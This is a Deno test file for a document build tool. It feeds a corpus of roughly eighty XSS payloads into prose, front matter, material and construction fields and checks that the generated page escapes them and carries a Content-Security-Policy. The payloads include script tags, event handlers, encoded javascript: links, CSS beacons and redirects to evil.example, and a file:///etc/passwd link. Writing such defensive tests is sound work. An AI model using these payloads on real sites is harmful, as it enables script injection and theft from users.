/**
 * XSS corpus: common payloads in every free-text place of a project, built through runBuild into a
 * temp folder; the package must hold none of them as live markup, show the plain-text fields as text,
 * and carry the Content-Security-Policy meta.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { loadProject } from "../../src/commands/loadProject.ts";
import { produceOutputs } from "../../src/commands/produce.ts";
import { BoundedBuilds } from "./bounded.ts";
import { hostileProjectFiles, writeProject, yamlQuoted } from "./hostileProject.ts";
import { assertInertPage, isAllowedUrl, parsePage } from "./inertPage.ts";

/** Payloads that are live in an HTML page if they reach it unescaped. */
const HTML_PAYLOADS: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>',
  "<math><mtext><script>alert(1)</script></mtext></math>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  "<embed src=javascript:alert(1)>",
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button formaction="javascript:alert(1)">go</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus='",
  "</style><script>alert(1)</script>",
  "</pre><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</noscript><script>alert(1)</script>",
  "<style>body{background:url(https://evil.example/x.png)}</style>",
  "<style>@import 'https://evil.example/x.css';</style>",
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  "}</style><style>*{background:url(https://evil.example/t)}",
  '";}body{background:url("https://evil.example/t")}/*',
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "&#x3C;img src=x onerror=alert(1)&#x3E;",
  "<!--<script>alert(1)//-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<video><source onerror=alert(1)></video>",
  "<input autofocus onfocus=alert(1)>",
  "javascript:alert(1)",
  // Control characters (BEL, ESC, NEL) in YAML text are refused by the reader: hostile/yaml-tags-and-escapes.
  "\u202Egnp.exe\u202C <script>alert(1)</script>",
];

/** Markdown forms that could turn into links, images or raw HTML. */
const MARKDOWN_PAYLOADS: readonly string[] = [
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](  javascript:alert(1)  )",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;&#x61;vascript&colon;alert(1))",
  "[x](java&#x09;script:alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](%6Aavascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](<javascript:alert(1)>)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example/)",
  '[x](https://ok.example/ "t\\" onmouseover=\\"alert(1)")',
  '[x](https://ok.example/" onmouseover="alert(1))',
  "![x](javascript:alert(1))",
  "![x](https://evil.example/t.png)",
  '![x" onerror="alert(1)](x.png)',
  "<javascript:alert(1)>",
  "<vbscript:msgbox(1)>",
  "<data:text/html,<script>alert(1)</script>>",
  "[ref]\n\n[ref]: javascript:alert(1)",
  '[x][r2]\n\n[r2]: data:text/html,<script>alert(1)</script> "t"',
  "[x][r3]\n\n[r3]: <java\tscript:alert(1)>",
  "<div onclick=alert(1)>\n\n**block**\n\n</div>",
  "<script>\nalert(1)\n</script>",
  "<style>\nbody { background: url(https://evil.example/x) }\n</style>",
  "text <b onmouseover=alert(1)>bold</b> <a href=javascript:alert(1)>a</a>",
  "# <img src=x onerror=alert(1)> heading {#x onclick=alert(1)}",
  "| a | <script>alert(1)</script> |\n|---|---|\n| [x](javascript:alert(1)) | <img src=x onerror=alert(1)> |",
  "```html\n</pre><script>alert(1)</script>\n```",
  "`</code><script>alert(1)</script>`",
  "- [x](javascript:alert(1))\n- <svg onload=alert(1)>",
  "> <iframe src=javascript:alert(1)>",
  "www.evil.example/<script>",
  "https://evil.example/?q=<script>alert(1)</script>",
  "mailto:x@example.org?body=<script>",
];

const ALL = [...HTML_PAYLOADS, ...MARKDOWN_PAYLOADS];

Deno.test("the XSS corpus holds at least 70 payloads", () => {
  assert.ok(ALL.length >= 70, `${ALL.length} payloads`);
  assert.equal(new Set(ALL).size, ALL.length, "a payload is listed twice");
});

Deno.test("assertInertPage() fails on each kind of live markup it must catch", async () => {
  const loaded = await loadProject(new URL("../fixtures/good/minimal", import.meta.url).pathname);
  const produced = produceOutputs(loaded);
  assert.ok(produced.ok);
  const page = produced.outputs.page;
  assertInertPage(page);
  const inject = (markup: string) => page.replace("</main>", `${markup}</main>`);
  const live = [
    "<script>1</script>",
    '<p onclick="x()">p</p>',
    '<a href="javascript:x()">a</a>',
    '<a href=" JaVa\tScript:x()">a</a>',
    '<a href="data:text/html,x">a</a>',
    '<a href="//evil.example/">a</a>',
    '<svg><a xlink:href="vbscript:x">a</a></svg>',
    '<iframe src="https://example.org/"></iframe>',
    '<object data="x"></object>',
    '<embed src="x">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"></form>',
    "<style>p{}</style>",
    '<p style="background:url(https://evil.example/t)">p</p>',
  ];
  for (const markup of live) {
    assert.throws(() => assertInertPage(inject(markup)), assert.AssertionError, markup);
  }
  assert.throws(() => assertInertPage(page.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "")));
  assert.ok(isAllowedUrl("https://example.org/") && isAllowedUrl("#s-1") && isAllowedUrl("notes/a.html"));
  assert.ok(isAllowedUrl("mailto:a@example.org"));
});

Deno.test({
  name: "runBuild() keeps every XSS payload inert in prose, front matter, material and construction text",
  sanitizeOps: false,
  sanitizeResources: false,
  async fn(t) {
    const builds = new BoundedBuilds();
    const base = await Deno.makeTempDir({ prefix: "fluxnote-xss-" });
    try {
      for (const [i, payload] of ALL.entries()) {
        await t.step({
          name: `payload ${i + 1}: ${JSON.stringify(payload).slice(0, 70)}`,
          sanitizeOps: false,
          sanitizeResources: false,
          async fn() {
            const folder = join(base, `p${i}`);
            const out = join(base, `out${i}`);
            writeProject(
              folder,
              hostileProjectFiles({
                prose: payload,
                frontMatter: payload,
                material: payload,
                construction: payload,
              }),
            );
            const report = await builds.build({ project: folder, out });
            assert.equal(report.thrown, undefined, report.thrown);
            assert.equal(report.code, 0, report.stderr.join("\n"));
            const page = Deno.readTextFileSync(join(out, "package.html"));
            assertInertPage(page, payload);
            // The plain-text fields show the payload as text: escaped, not dropped.
            const doc = parsePage(page);
            assert.ok(
              (doc.querySelector("h1")?.textContent ?? "").includes(payload),
              "title not shown as text",
            );
            assert.ok(
              (doc.querySelector("title")?.textContent ?? "").includes(payload),
              "<title> lost the text",
            );
            // The material's table in section 2 (section 6 names the material by its id only).
            const nameCells = Array.from(doc.querySelectorAll("table.material-table td")).filter((td) =>
              td.previousElementSibling?.textContent === "board-x"
            );
            assert.ok(nameCells.length > 0, "no material row for board-x");
            for (const td of nameCells) {
              assert.equal(td.textContent, payload, "material name not shown as text");
            }
            const captions = Array.from(doc.querySelectorAll("caption")).map((c) => c.textContent ?? "");
            assert.ok(
              captions.some((c) => c.includes(`Construction EW-1: ${payload}.`)),
              "construction name",
            );
          },
        });
      }
    } finally {
      builds.close();
      await Deno.remove(base, { recursive: true });
    }
  },
});

Deno.test({
  name: "runBuild() stops on hostile ids and units, prints their code points, and writes nothing",
  sanitizeOps: false,
  sanitizeResources: false,
  async fn() {
    const builds = new BoundedBuilds();
    const base = await Deno.makeTempDir({ prefix: "fluxnote-xss-" });
    try {
      for (
        const [i, payload] of ["<script>alert(1)</script>", "EW\u202E1", "EW-1\u0007\u001b[2J"].entries()
      ) {
        const files = hostileProjectFiles({});
        files["walls.md"] = (files["walls.md"] ?? "").replace("id: EW-1", `id: ${yamlQuoted(payload)}`);
        files["materials.md"] = (files["materials.md"] ?? "").replace(
          "density: 800 kg/m^3",
          `density: ${yamlQuoted(`800 ${payload}`)}`,
        );
        const folder = join(base, `p${i}`);
        const outParent = join(base, `o${i}`);
        Deno.mkdirSync(outParent);
        writeProject(folder, files);
        const report = await builds.build({ project: folder, out: join(outParent, "out") });
        assert.equal(report.thrown, undefined, report.thrown);
        assert.equal(report.code, 1);
        assert.deepEqual([...Deno.readDirSync(outParent)], []);
        const printed = report.stderr.join("\n");
        assert.match(
          printed,
          /walls\.md:4:5: error: Cannot use (".*" as an id|the control character U\+[0-9A-F]{4} in the text ".*")/,
        );
        assert.match(printed, /materials\.md:7:10: error: /);
        // deno-lint-ignore no-control-regex
        assert.doesNotMatch(printed, /[\u0000-\u0008\u000b-\u001f\u007f\u202a-\u202e\u2066-\u2069]/);
      }
    } finally {
      builds.close();
      await Deno.remove(base, { recursive: true });
    }
  },
});
